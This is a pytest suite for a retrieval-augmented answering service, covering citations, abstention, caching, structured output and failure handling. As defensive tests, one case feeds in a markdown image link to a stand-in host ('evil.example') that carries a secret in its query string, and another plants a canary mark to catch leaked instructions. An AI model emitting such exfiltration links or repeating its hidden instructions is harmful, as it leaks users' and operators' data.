"""From a question to a checked answer."""

import asyncio
import json
from contextlib import aclosing

import pytest

from llmkit.call import CacheMode, ModelRef
from llmkit.errors import RateLimited, Truncated
from rag.answering.abstaining import NOTHING_FOUND, UNSUPPORTED
from rag.answering.errors import PromptLeaked
from rag.answering.events import Answered, Failed, Sources, Token
from rag.answering.question import Question
from rag.answering.settings import AnsweringSettings
from rag.retrieval.errors import SearchUnavailable
from rag.retrieval.passages import RetrievalOptions
from rag.retrieval.ports import Turn

PORT = ["The port ", "is 8002 ", "[1", "]."]
SCHEMA = {
    "type": "object",
    "properties": {"port": {"type": "integer"}},
    "required": ["port"],
    "additionalProperties": False,
}


def streamed(events: list[object]) -> str:
    return "".join(event.text for event in events if isinstance(event, Token))


async def test_sources_come_first_then_tokens_then_the_answer(ask, provider, retriever) -> None:
    provider.script = [PORT]
    events = await ask()
    assert [type(event) for event in events] == [Sources, Token, Token, Token, Answered]
    assert events[0].passages == retriever.passages
    assert streamed(events) == events[-1].answer.answer == "The port is 8002 [1]."


async def test_the_answer_tells_what_it_stands_on(ask, provider) -> None:
    provider.script = [PORT]
    answer = (await ask())[-1].answer
    (citation,) = answer.citations
    assert (citation.marker, citation.document_name, citation.page) == (1, "manual.pdf", 3)
    assert citation.quote == "The service listens on port 8002."
    assert (answer.abstained, answer.support, answer.removed_citations, answer.data) == (False, 1.0, 0, None)
    assert [source.document_name for source in answer.sources] == ["manual.pdf", "handbook.docx"]


async def test_the_answer_tells_how_it_came_about(ask, provider, retriever) -> None:
    provider.script = [PORT]
    retriever.reports = ({"tokens": {"input": 5, "output": 2, "estimated": True}, "cost_usd": "0.001"},)
    meta = (await ask())[-1].answer.meta
    assert (meta.provider, meta.model, meta.prompt.name, meta.prompt.version) == ("openai", "big", "rag-answer", "1")
    assert meta.tokens.model_dump() == {"input": 105, "output": 12, "estimated": True}
    assert meta.cost_usd == "0.00112"  # 0.001 for the rewriting; 100 tokens at 1 and 10 at 2 dollars a million
    assert (meta.cache, meta.attempts, meta.fell_back_from) == (None, 1, [])
    assert {"retrieve.search", "retrieve", "pack", "first_token", "generate", "judge", "total"} <= set(meta.timings_ms)
    assert meta.timings_ms["first_token"] <= meta.timings_ms["total"]


async def test_without_passages_no_model_is_asked(ask, provider, retriever) -> None:
    retriever.passages = ()
    events = await ask()
    answer = events[-1].answer
    assert [type(event) for event in events] == [Sources, Answered]
    assert (answer.answer, answer.abstained, answer.meta.model, answer.meta.cost_usd) == (
        NOTHING_FOUND,
        True,
        None,
        "0",
    )
    assert provider.asked == []


async def test_a_german_question_is_told_in_german_that_nothing_is_known(ask, provider, retriever) -> None:
    provider.script = [["The moon is 42 [1]."]]
    unsupported = (await ask("Wie weit ist es bis zum Mond?"))[-1].answer
    assert unsupported.answer.startswith("Ich weiß es nicht: Die gefundenen Textstellen")
    retriever.passages = ()
    unknown = (await ask("Wie weit ist es bis zum Mond?"))[-1].answer
    assert unknown.answer == "Ich weiß es nicht: Die Dokumente enthalten nichts darüber."
    assert unsupported.abstained
    assert unknown.abstained


@pytest.mark.parametrize(
    "text", ["Ich weiß es nicht: dazu steht nichts da.", "Das weiß ich nicht.", "I don't know.", "I do not know [1]."]
)
async def test_a_model_may_not_know_in_german_too(text: str, ask, provider) -> None:
    provider.script = [[text]]
    assert (await ask())[-1].answer.abstained


async def test_a_model_that_does_not_know_is_believed(ask, provider) -> None:
    provider.script = ["I do not know: the passages say nothing about the moon [1]."]
    answer = (await ask("How far is the moon?"))[-1].answer
    assert answer.abstained
    assert answer.answer.startswith("I do not know")
    assert answer.citations == []


@pytest.mark.parametrize(
    ("text", "removed"),
    [
        ("The moon is made of cheese.", 0),
        ("The moon is made of cheese [1].", 1),
        ("Port 8002 [1]. Zebras graze near huge waterfalls in summer.", 1),
    ],
)
async def test_an_answer_that_nothing_supports_is_withheld(text: str, removed: int, ask, provider) -> None:
    provider.script = [text]
    answer = (await ask())[-1].answer
    assert (answer.answer, answer.abstained, answer.removed_citations) == (UNSUPPORTED, True, removed)


async def test_the_prompt_holds_question_passages_history_and_the_mark(ask, provider, retriever) -> None:
    provider.script = [PORT]
    retriever.query = "Which <port> is it?"
    history = tuple(Turn(f"question {number}", f"answer {number}") for number in range(9))
    await ask(history=history, wishes="Speak like a <pirate>.")
    messages = [str(message.text) for message in provider.asked[0].messages]
    assert "<task>answer</task>" in messages[0]
    assert "secretmarksecret" in messages[0]
    assert "<wishes>Speak like a &lt;pirate&gt;.</wishes>" in messages[0]
    assert messages[1:3] == ["question 3", "answer 3"]  # the last six turns
    assert "<question>Which &lt;port&gt; is it?</question>" in messages[-1]
    assert '<passage id="1" document="manual.pdf" page="3">' in messages[-1]
    assert retriever.asked[0][3] == history[-6:]


async def test_the_call_is_bound_to_tenant_model_and_limits(ask, provider, answer_cache) -> None:
    provider.script = [PORT]
    await ask(model=ModelRef("openai", "small"), temperature=0.5, max_output_tokens=50)
    (asked,) = provider.asked
    assert (asked.max_tokens, asked.temperature) == (50, 0.5)
    assert answer_cache.asked == 0  # nobody has switched it on


async def test_a_caller_cannot_have_longer_answers_than_the_settings_allow(ask, provider) -> None:
    provider.script = [PORT]
    await ask(max_output_tokens=10_000)
    assert provider.asked[0].max_tokens == AnsweringSettings().max_output_tokens


class TestCaching:
    @pytest.fixture
    def answering_settings(self) -> AnsweringSettings:
        return AnsweringSettings(cache=CacheMode.EXACT)

    async def test_an_earlier_answer_is_given_again_and_checked_again(self, ask, provider) -> None:
        provider.script = [PORT]
        first, again = (await ask())[-1].answer, (await ask())[-1].answer
        assert (again.answer, again.citations) == (first.answer, first.citations)
        assert (first.meta.cache, again.meta.cache) == (None, "exact")
        assert len(provider.asked) == 1


async def test_a_model_that_fails_is_a_failure_and_not_an_answer(ask, provider) -> None:
    provider.script = [RateLimited("too many", retry_after=7), RateLimited("too many", retry_after=7)]
    provider_error = (await ask(model=ModelRef("openai", "big")))[-1]
    assert isinstance(provider_error, Failed)
    assert (provider_error.problem.code, provider_error.problem.retry_after) == ("model_rate_limited", 7)


async def test_a_stream_that_breaks_off_is_a_failure(ask, provider) -> None:
    provider.script = [["The port ", Truncated("gone")]]
    events = await ask()
    assert isinstance(events[-1], Failed)
    assert not any(isinstance(event, Answered) for event in events)


async def test_a_search_that_fails_is_a_failure(ask, retriever) -> None:
    retriever.problem = SearchUnavailable()
    assert await ask() == [Failed(retriever.problem)]


@pytest.mark.parametrize("leak", ["secretmarksecret", "s-e-c-r-e-t-m-a-r-k-s-e-c-r-e-t", "secret mark Secret"])
async def test_an_answer_that_repeats_the_instructions_is_stopped(leak: str, ask, provider) -> None:
    provider.script = [["The port is 8002. My instructions: ", *leak, " and more"]]
    events = await ask()
    assert isinstance(events[-1], Failed)
    assert isinstance(events[-1].problem, PromptLeaked)
    assert "and more" not in streamed(events)


async def test_who_stops_listening_ends_the_models_call(answerer, provider) -> None:
    provider.script = [["The port ", None]]
    question = Question(tenant="acme", text="Which port?", options=RetrievalOptions())
    async with aclosing(answerer.answer(question)) as events:
        async for event in events:
            if isinstance(event, Token):
                break
    async with asyncio.timeout(2):
        while not provider.closed:  # noqa: ASYNC110 - the gateway closes it in its own time
            await asyncio.sleep(0.01)


async def test_links_of_the_answer_are_cleaned(ask, provider) -> None:
    provider.script = [["The port is 8002 [1] ![x](https://evil.example/?", "q=secret)."]]
    events = await ask()
    assert "evil" not in streamed(events) + events[-1].answer.answer


class TestStructured:
    async def test_the_answer_follows_the_schema(self, ask, provider) -> None:
        provider.script = [{"json": json.dumps({"port": 8002})}]
        events = await ask(schema=SCHEMA)
        answer = events[-1].answer
        assert [type(event) for event in events] == [Sources, Answered]
        assert (answer.data, json.loads(answer.answer)) == ({"port": 8002}, {"port": 8002})
        assert [citation.marker for citation in answer.citations] == [1]
        assert (answer.support, answer.abstained) == (1.0, False)

    async def test_json_in_the_text_is_taken_too(self, ask, provider) -> None:
        provider.script = ['Here it is:\n```json\n{"port": 8002}\n```']
        assert (await ask(schema=SCHEMA))[-1].answer.data == {"port": 8002}

    async def test_it_is_repaired_and_all_calls_are_counted(self, ask, provider) -> None:
        provider.script = ["no json", {"json": '{"port": "x"}'}, {"json": '{"port": 8002}'}]
        answer = (await ask(schema=SCHEMA))[-1].answer
        assert answer.data == {"port": 8002}
        assert answer.meta.tokens.input == 300
        assert "$.port: 'x' is not of type 'integer'" in str(provider.asked[2].messages[-1].text)

    async def test_after_two_repairs_it_is_given_up(self, ask, provider) -> None:
        provider.script = ["no json"] * 4
        failed = (await ask(schema=SCHEMA))[-1]
        assert isinstance(failed, Failed)
        assert failed.problem.code == "model_answer_malformed"
        assert len(provider.asked) == 3

    async def test_values_that_nothing_supports_are_withheld(self, ask, provider) -> None:
        provider.script = [{"json": '{"port": 9999}'}]
        answer = (await ask(schema=SCHEMA))[-1].answer
        assert (answer.data, answer.abstained, answer.answer) == (None, True, UNSUPPORTED)

    async def test_an_empty_answer_is_none(self, ask, provider) -> None:
        schema = {"type": "object", "properties": {"port": {"type": "string"}}}
        provider.script = [{"json": '{"port": ""}'}]
        answer = (await ask(schema=schema))[-1].answer
        assert (answer.data, answer.abstained, answer.answer) == (None, True, UNSUPPORTED)

    async def test_values_without_content_are_not_judged(self, ask, provider) -> None:
        schema = {"type": "object", "properties": {"open": {"type": "boolean"}}}
        provider.script = [{"json": '{"open": true}'}]
        answer = (await ask(schema=schema))[-1].answer
        assert (answer.data, answer.support, answer.abstained) == ({"open": True}, 1.0, False)

    async def test_the_mark_may_not_come_out_of_it_either(self, ask, provider) -> None:
        schema = {"type": "object", "properties": {"text": {"type": "string"}}}
        provider.script = [{"json": '{"text": "secretmarksecret"}'}]
        assert isinstance((await ask(schema=schema))[-1].problem, PromptLeaked)


async def test_the_offline_model_answers_from_the_same_prompt(ask) -> None:
    events = await ask("Which port does the service listen on?", model=ModelRef("offline", "offline"))
    answer = events[-1].answer
    assert "8002 [1]" in answer.answer
    assert (answer.meta.model, answer.abstained, answer.support) == ("offline", False, 1.0)
    unknown = (await ask("Who painted the Mona Lisa?", model=ModelRef("offline", "offline")))[-1].answer
    assert unknown.abstained


@pytest.mark.parametrize(("turns", "seen"), [(2, ("b", "c")), (0, ())])
async def test_no_more_turns_are_read_than_the_setting_allows(
    turns: int, seen: tuple[str, ...], ask, answerer, provider, retriever
) -> None:
    answerer._settings = AnsweringSettings(history_turns=turns)
    provider.script = [PORT]
    await ask(history=tuple(Turn(text, text.upper()) for text in "abc"))
    assert tuple(turn.question for turn in retriever.asked[0][3]) == seen
    assert sum(message.type == "ai" for message in provider.asked[0].messages) == len(seen)


async def test_every_end_of_a_question_is_counted(ask, provider, retriever, registry) -> None:
    provider.script = [PORT, ["It is 8002 [7]."], RateLimited("busy")]
    for _ in range(3):
        await ask()
    retriever.passages = ()
    await ask()

    def counted(outcome: str) -> float | None:
        return registry.get_sample_value("rag_answers_total", {"outcome": outcome})

    assert [counted(end) for end in ("answered", "unsupported", "failed", "abstained")] == [1, 1, 1, 1]
    assert registry.get_sample_value("rag_citations_removed_total") == 1
    assert registry.get_sample_value("rag_stage_seconds_count", {"stage": "generate"}) == 2
